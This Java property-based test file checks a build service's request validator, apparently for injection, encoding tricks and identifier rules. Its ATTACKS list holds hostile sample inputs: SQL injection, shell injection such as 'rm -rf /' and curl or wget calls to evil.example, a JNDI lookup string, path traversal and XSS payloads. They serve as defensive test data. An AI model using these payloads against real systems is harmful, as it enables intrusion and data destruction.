package dev.forge.validation;

import static org.assertj.core.api.Assertions.assertThat;

import dev.forge.analysis.AnalysisRequest;
import dev.forge.analysis.AnalysisType;
import dev.forge.builds.BuildRequest;
import dev.forge.validation.UnsafeText.Threat;
import dev.forge.validation.ValidationFailure.FieldError;
import dev.forge.validation.ValidationFailure.Kind;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.Tuple;

/**
 * Generated checks of the validators: benign prose in several scripts and disguises passes;
 * attacks fail however they are disguised (URL-encoded, fullwidth look-alikes, both); double
 * encoding is refused; identifiers pass exactly when they stay inside their alphabet.
 */
class ValidationProperties {

    private static final RequestValidator VALIDATOR = new RequestValidator();

    /** Validates an analysis request in its wire form, as the HTTP API receives it. */
    private static Optional<ValidationFailure> wire(String project, List<String> types) {
        return wire(project, types, null);
    }

    private static Optional<ValidationFailure> wire(String project, List<String> types, String buildId) {
        return AnalysisRequest.fromWire(project, types, buildId) instanceof dev.forge.Outcome.Invalid<?> invalid
                ? Optional.of(invalid.failure()) : Optional.empty();
    }

    // ---- the generators ----------------------------------------------------------------------

    /** Words that may appear inside a clause: several brush against a rule without breaking it. */
    private static final List<String> WORDS = List.of(
            "build", "test", "tests", "run", "the", "project", "coverage", "report", "fast",
            "slow", "select", "from", "drop", "table", "delete", "insert", "into", "update", "set",
            "or", "and", "cat", "cats", "find", "ping", "echo", "export", "kill", "script",
            "javascript", "load", "error", "onboarding", "sh", "rm", "curl", "bash", "with",
            "flag", "user's", "don't", "'stable'", "\"beta\"", "2.0", "v1.2.3", "50%", "x2",
            "C++", "p99", "#42", "a+b", "naïve", "café", "Résumé", "修复", "测试", "بناء", "🚀",
            "👩‍💻", "`parseGoal` handler", "src/main/java", "docs/index.md", "mode=fast",
            "level=debug", "(fast)", "[wip]", "{json}", "<T>", "x<y", "a>b", "R&D", "Q&A",
            "e-mail", "--verbose", "-DskipTests", "100", "3.14", "https://example.com/a?b=c",
            "C:\\Temp", "$5", "~/.m2", "./mvnw", "...", "1/2", "and/or", "etc.", "i.e.", "—",
            "…", "“quoted”", "it’s", "ＦＵＬＬ", "Ünïcödé", "日本語", "Ελληνικά", "русский");

    /** Words that open a clause, so no clause starts with a command after a separator. */
    private static final List<String> OPENERS = List.of(
            "then", "also", "and", "finally", "next", "please", "afterwards", "the", "a", "if",
            "we", "it", "Build", "Run", "Fix");

    /** How clauses join: the separators that make prose look like a shell or SQL line. */
    private static final List<String> JOINERS = List.of(
            "; ", ", ", " -- ", " | ", ". ", " & ", ": ", "\n", " (", ") ", " / ", "! ", "? ",
            " -> ", ";\n", " — ");

    /** Attacks that stay attacks wherever they sit in a sentence. */
    private static final List<String> ATTACKS = List.of(
            "' OR 1=1", "x' or 'a'='a", "admin'--", "1; DROP TABLE users", "1 UNION SELECT password",
            "'; exec xp_cmdshell('dir')", "1 OR 2=2", "; rm -rf /", "&& curl evil.example",
            "|| wget evil.example", "| sh", "$(whoami)", "${jndi:ldap://evil}", "`id`",
            "; cat secrets", "\n bash -i", "../../etc/hosts", "..\\..\\boot.ini", "x/../y",
            "<script>alert(1)</script>", "javascript:alert(1)", "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>", "<iframe src=//evil>", "&#60;script&#62;",
            "\" onmouseover=\"alert(1)", "nul\u0000byte", "\u202Eevil", "esc\u001b[2J");

    @Provide
    Arbitrary<String> prose() {
        Arbitrary<String> clause = Combinators.combine(
                        Arbitraries.of(OPENERS), Arbitraries.of(WORDS).list().ofMinSize(1).ofMaxSize(8))
                .as((opener, words) -> opener + " " + String.join(" ", words));
        Arbitrary<List<Tuple.Tuple2<String, String>>> more =
                Combinators.combine(Arbitraries.of(JOINERS), clause).as(Tuple::of).list().ofMaxSize(5);
        return Combinators.combine(clause, more, Arbitraries.of("", ".", "!", "?", " :)", "..."))
                .as((first, rest, end) -> {
                    StringBuilder text = new StringBuilder(first);
                    rest.forEach(pair -> text.append(pair.get1()).append(pair.get2()));
                    return text.append(end).toString();
                });
    }

    /** One way to write a character: as is, fullwidth, percent-encoded, or both. */
    enum Disguise { PLAIN, FULLWIDTH, PERCENT, PERCENT_U, PERCENT_FULLWIDTH }

    /** {@code text} with each character disguised as the matching entry says (cycling). */
    static String disguise(String text, List<Disguise> disguises) {
        StringBuilder out = new StringBuilder();
        int i = 0;
        for (int offset = 0; offset < text.length(); ) {
            int cp = text.codePointAt(offset);
            offset += Character.charCount(cp);
            Disguise how = disguises.isEmpty() ? Disguise.PLAIN : disguises.get(i++ % disguises.size());
            switch (how) {
                case PLAIN -> out.appendCodePoint(cp);
                case FULLWIDTH -> out.appendCodePoint(fullwidth(cp));
                case PERCENT -> out.append(percent(cp, i % 2 == 0));
                case PERCENT_U -> out.append(cp <= 0xFFFF ? percentU(cp) : percent(cp, true));
                case PERCENT_FULLWIDTH -> out.append(percent(fullwidth(cp), false));
            }
        }
        return out.toString();
    }

    /** The fullwidth look-alike NFKC folds back: ＜ for <, ； for ;, an ideographic space. */
    static int fullwidth(int cp) {
        if (cp >= 0x21 && cp <= 0x7E) {
            return cp + 0xFEE0;
        }
        return cp == ' ' ? 0x3000 : cp;
    }

    static String percent(int cp, boolean upper) {
        String digits = upper ? "0123456789ABCDEF" : "0123456789abcdef";
        StringBuilder out = new StringBuilder();
        for (byte b : new String(Character.toChars(cp)).getBytes(StandardCharsets.UTF_8)) {
            out.append('%').append(digits.charAt((b >> 4) & 0xF)).append(digits.charAt(b & 0xF));
        }
        return out.toString();
    }

    static String percentU(int cp) {
        String hex = Integer.toHexString(0x10000 | cp).substring(1);
        return "%u" + hex;
    }

    @Provide
    Arbitrary<List<Disguise>> disguises() {
        return Arbitraries.of(Disguise.class).list().ofMinSize(1).ofMaxSize(12);
    }

    // ---- SafeText / UnsafeText -----------------------------------------------------------------

    @Property(tries = 10_000)
    void benignProse_passes_asIsAndDisguised(@ForAll("prose") String prose,
            @ForAll("disguises") List<Disguise> disguises) {
        String disguised = disguise(prose, disguises);
        // percent-encoding can triple the length; keep the parameter within its 2000 characters
        String note = disguised.length() <= 2000 ? disguised : prose;
        assertThat(VALIDATOR.validate(new BuildRequest("p", prose, Map.of("note", note))))
                .as("goal %s, note %s", prose, note).isEmpty();
    }

    @Property(tries = 10_000)
    void attack_fails_whereverItSitsAndHoweverDisguised(@ForAll("prose") String prose,
            @ForAll("positions") double where, @ForAll("attacks") String attack,
            @ForAll("disguises") List<Disguise> disguises) {
        Optional<Threat> expected = UnsafeText.detect(attack);
        assertThat(expected).as(attack).isPresent();
        int at = prose.indexOf(' ', (int) (where * prose.length()));
        at = at < 0 ? prose.length() : at;
        String goal = prose.substring(0, at) + " " + disguise(attack, disguises) + " " + prose.substring(at);

        Optional<ValidationFailure> failure = VALIDATOR.validate(new BuildRequest("p", goal, Map.of()));
        assertThat(failure).as(goal).hasValue(ValidationFailure.security("goal", expected.get().reason()));
    }

    @Provide
    Arbitrary<String> attacks() {
        return Arbitraries.of(ATTACKS);
    }

    /**
     * Decoding happens once; whatever is still an escape afterwards was encoded twice and is
     * refused as such, whether or not it hides an attack (docs/validation.md, "double encoding").
     */
    @Property(tries = 10_000)
    void doubleEncoded_failsAsEncoding(@ForAll("proseOrAttack") String text,
            @ForAll("disguises") List<Disguise> disguises) {
        List<Disguise> atLeastOneEscape = new ArrayList<>(disguises);
        atLeastOneEscape.set(0, Disguise.PERCENT);
        String once = disguise(text, atLeastOneEscape);
        String twice = once.replace("%", "%25");

        assertThat(UnsafeText.normalize(twice)).isEqualTo(TextNormalizer.nfkc(once));
        assertThat(UnsafeText.detect(twice)).as(twice).contains(Threat.ENCODING);
    }

    @Provide
    Arbitrary<String> proseOrAttack() {
        // control characters are reported before encoding, so leave those attacks out here
        return Arbitraries.oneOf(prose(), attacks().filter(a -> !UnsafeText.hasForbiddenCharacter(a)));
    }

    // ---- ProjectName -------------------------------------------------------------------------

    private static final String NAME_ALPHABET =
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-";

    @Property(tries = 10_000)
    void projectName_fromTheAlphabet_passes(@ForAll("projectNames") String name) {
        assertThat(wire(name, List.of("quality"))).isEmpty();
        assertThat(VALIDATOR.validate(new BuildRequest(name, "Build", Map.of()))).isEmpty();
    }

    @Provide
    Arbitrary<String> projectNames() {
        return Arbitraries.strings().withChars(NAME_ALPHABET).ofMinLength(1).ofMaxLength(100);
    }

    @Property(tries = 10_000)
    void projectName_withACharacterOutsideTheAlphabet_fails(@ForAll("shortProjectNames") String name,
            @ForAll("outsideNameAlphabet") String intruder, @ForAll("positions") double where) {
        int at = (int) (where * (name.length() + 1)) % (name.length() + 1);
        String bad = name.substring(0, at) + intruder + name.substring(at); // never over 100 chars

        Optional<ValidationFailure> failure = wire(bad, List.of("types"));
        assertThat(failure).as(bad).isPresent();
        assertThat(failure.get().errors()).extracting(FieldError::field).containsExactly("project_name");
        assertThat(failure.get().errors()).allSatisfy(e -> assertThat(e.message())
                .matches("must be 1 to 100 characters from A-Z, a-z, 0-9, _ and -|contains [A-Za-z -]+"));
    }

    @Provide
    Arbitrary<String> shortProjectNames() {
        return Arbitraries.strings().withChars(NAME_ALPHABET).ofMaxLength(98);
    }

    @Provide
    Arbitrary<String> outsideNameAlphabet() {
        return outsideOf(NAME_ALPHABET);
    }

    @Provide
    Arbitrary<Double> positions() {
        return Arbitraries.doubles().between(0, 1);
    }

    /** One code point (any plane, lone surrogates included) that is not in the alphabet. */
    private static Arbitrary<String> outsideOf(String alphabet) {
        Arbitrary<Integer> ascii = Arbitraries.integers().between(0, 0x7F);
        Arbitrary<Integer> bmp = Arbitraries.integers().between(0x80, 0xFFFF);
        Arbitrary<Integer> astral = Arbitraries.integers().between(0x10000, 0x10FFFF);
        Arbitrary<Integer> lookalike = Arbitraries.integers().between(0xFF01, 0xFF5E); // fullwidth
        return Arbitraries.frequencyOf(Tuple.of(4, ascii), Tuple.of(3, bmp), Tuple.of(1, astral),
                        Tuple.of(2, lookalike))
                .filter(cp -> alphabet.indexOf(cp) < 0)
                .map(Character::toString);
    }

    @Property(tries = 10_000)
    void projectName_tooLong_failsAsSchema(@ForAll("projectNames") String name) {
        String tooLong = name.repeat(100 / name.length() + 1);
        assertThat(wire(tooLong, List.of("security")))
                .hasValueSatisfying(f -> assertThat(f.kind()).isEqualTo(Kind.SCHEMA));
    }

    // ---- ParameterKey ------------------------------------------------------------------------

    private static final String KEY_TAIL = "abcdefghijklmnopqrstuvwxyz0123456789_";

    @Provide
    Arbitrary<String> parameterKeys() {
        return Combinators.combine(Arbitraries.chars().range('a', 'z'),
                        Arbitraries.strings().withChars(KEY_TAIL).ofMaxLength(31))
                .as((head, tail) -> head + tail);
    }

    @Property(tries = 10_000)
    void parameterKey_wellFormed_passesAndNamesItsValue(@ForAll("parameterKeys") String key,
            @ForAll("attacks") String attack) {
        assertThat(VALIDATOR.validate(new BuildRequest("p", "Build", Map.of(key, "release")))).isEmpty();
        assertThat(VALIDATOR.validate(new BuildRequest("p", "Build", Map.of(key, attack))))
                .hasValueSatisfying(f -> assertThat(f.errors()).extracting(FieldError::field)
                        .containsExactly("parameters." + key));
    }

    @Property(tries = 10_000)
    void parameterKey_malformed_failsWithoutEchoingIt(@ForAll("parameterKeys") String key,
            @ForAll("outsideKeyAlphabet") String intruder, @ForAll("positions") double where,
            @ForAll boolean digitFirst) {
        int at = (int) (where * (key.length() + 1)) % (key.length() + 1);
        String bad = digitFirst ? "1" + key : key.substring(0, at) + intruder + key.substring(at);

        Optional<ValidationFailure> failure = VALIDATOR.validate(new BuildRequest("p", "Build", Map.of(bad, "v")));
        assertThat(failure).as(bad).isPresent();
        assertThat(failure.get().errors()).extracting(FieldError::field).containsExactly("parameters");
        assertThat(failure.get().errors()).allSatisfy(e -> assertThat(e.message()).startsWith("has a key that"));
    }

    @Provide
    Arbitrary<String> outsideKeyAlphabet() {
        return outsideOf(KEY_TAIL);
    }

    // ---- AnalysisTypeName --------------------------------------------------------------------

    private static final List<String> TYPE_NAMES =
            Arrays.stream(AnalysisType.values()).map(AnalysisType::wireName).toList();

    @Provide
    Arbitrary<List<String>> typeLists() {
        return Arbitraries.of(TYPE_NAMES).list().ofMinSize(1).ofMaxSize(8);
    }

    @Property(tries = 10_000)
    void analysisTypes_knownNames_passAndOneStrangerFails(@ForAll("typeLists") List<String> types,
            @ForAll("strangers") String stranger, @ForAll("positions") double where) {
        assertThat(wire("p", types)).isEmpty();

        List<String> withStranger = new ArrayList<>(types);
        withStranger.add((int) (where * types.size()), stranger);
        assertThat(wire("p", withStranger)).hasValue(
                ValidationFailure.schema("analysis_types", "must contain only quality, security, types or coverage"));
    }

    @Provide
    Arbitrary<String> strangers() {
        return Arbitraries.oneOf(
                Arbitraries.strings().ofMaxLength(12),
                Arbitraries.of(TYPE_NAMES).map(name -> name.toUpperCase(java.util.Locale.ROOT)),
                Arbitraries.of(TYPE_NAMES).map(name -> " " + name),
                Arbitraries.of(TYPE_NAMES).map(name -> disguise(name, List.of(Disguise.FULLWIDTH))))
                .filter(s -> !TYPE_NAMES.contains(s));
    }
}
